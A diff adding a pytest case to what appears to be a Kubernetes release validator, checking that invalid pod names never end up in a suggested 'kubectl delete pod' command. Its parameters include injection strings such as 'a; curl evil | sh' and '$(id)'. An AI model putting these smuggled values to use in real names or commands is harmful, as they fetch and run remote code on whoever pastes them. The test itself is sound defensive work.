@@ -521,6 +521,13 @@ def test_suspension_warnings_name_a_failed_pod_without_message_and_verdict() -> 
     assert "kubectl delete pod -n default a" in warnings[3]
 
 
+@pytest.mark.parametrize("name", ["a; curl evil | sh", "--all", "$(id)", "a b", ""])
+def test_text_that_is_no_name_of_a_pod_is_not_part_of_a_command_to_paste(name: str) -> None:
+    listers = StaticListers(releases=release(OLD, status="Suspend", defenseCheckFailPods=[{"pod": name}]))
+    warnings = validate(*suspended_release(), listers)["warnings"]
+    assert not any("delete pod" in warning for warning in warnings)
+
+
 def test_suspension_warnings_count_no_pods_if_five_failed() -> None:
     warnings = validate(*suspended_release(), failed(*"abcde"))["warnings"]
     assert not any("more pods failed" in warning for warning in warnings)
